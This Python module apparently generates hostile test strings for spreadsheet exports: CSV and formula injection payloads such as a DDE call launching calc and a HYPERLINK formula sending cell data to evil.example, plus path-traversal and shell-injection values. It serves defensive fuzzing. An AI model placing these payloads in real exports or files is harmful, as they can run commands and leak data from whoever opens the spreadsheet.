"""Words that a spreadsheet might take for something else than words, as anybody may type them on a form."""

from __future__ import annotations

from itertools import chain, product

COUNT = 200
_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    "\r=",
    "'=",
    '"=',
    " =",
    "\u00a0=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
)
"""What a formula begins with, what may stand before that, and full-width signs that some programs fold."""
_CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    'WEBSERVICE("http://evil.example/")',
    "1+1",
    "SUM(Sessions[#All])",
    'DDE("cmd";"/C calc";"A0")',
    "as_of",
)
_OTHERS = (
    # Quotes, brackets and names, as they stand in our own formulas.
    '"', '""', '"&as_of&"', '")+COUNTA(Sessions[school])+COUNTIFS(Sessions[school],"*', "'", "''",
    "'Sessions'!A1", '"Alder" & Chr(61)', '=CHAR(61)&"x"', "]]", "[#All]", "Sessions[#All]",
    "Actions[[#This Row],[owner]]", "[@school]", "@Sessions[school]", "as_of", "board_school",
    "board_year", "Board_figures", "Print_Titles", "_xlnm._FilterDatabase", "R1C1", "A1", "XFD1048576",
    "TRUE", "#REF!", "#N/A", "#NAME?", "Err:502", "{row}", "{1,2}", "${as_of}", "%s %d",
    # What COUNTIFS reads in a condition.
    "*", "?", "~", "~*", "~~", "*?~", "St *", "S?", "Alder~", "<>", "<", ">", "<5", ">=0", "<>Alder",
    "=Alder", "==", "=", "<=>", "=*", "=~", '=""',
    # What looks like a number, a day, nothing.
    "1e3", "007", "1/2", "2026-11-19", "19/11/2026", "-1", "+44 1332 000000", "1,000", "50%", "£5",
    "0x1F", " ", "-", "--",
    # What XML or the file format reads.
    "_x0009_", "_x000D_=1", "_x005F_x0009_", "_X0041_", "_x0000_", "&amp;", "&#61;1+1", "<f>1+1</f>",
    "]]>", "<![CDATA[=1]]>", "<!-- -->", "<?xml?>", "\x01\x02", "a\x00b", "\x0b=1", "\x0c=1",
    "\x1b[31m", "a\ufffeb", "a\uffffb", "\u2028=1", "\x85=1", "\x7f", "tab\there", "line\nline",
    "line\r\nline", "  two  spaces  ", "trailing ", " leading", "\u3000",
    # Other scripts and directions.
    "\u202e=1+1", "\u2066abc\u2069", "\u200f=1", "مدرسة الأمل", "בית ספר", "学校＝１", "école É",
    "e\u0301cole", "ﬁve", "\U0001f3eb school", "\u200b=1", "\u00ad=1", "İstanbul", "Straße", "ǅ",
    # Names of files and folders.
    "CON", "nul.txt", "..", "../../etc/passwd", "C:\\evil", "a/b", "a:b", "aux", ".hidden", "dot.",
    "|calc", "$(calc)", "`calc`", ";calc", "%TEMP%", "--school", "-o", "~root", "file://evil/x",
    "\\\\evil\\share",
)  # fmt: skip
_LONG = ("ü" * 300, '"' * 260, "*" * 140)
"""Longer than a text in a formula may be (255), as it stands there."""
OVERLONG = ("=" + "A1+" * 3_000 + "1", "long =1+1 " * 4_000)
"""Longer than a formula (8,192), and than a cell (32,767)."""


def _all() -> tuple[str, ...]:
    called = (lead + call for call, lead in product(_CALLS, _LEADS))
    return tuple(dict.fromkeys(chain(_LONG, _OTHERS, called)))[:COUNT]


HOSTILE = _all()
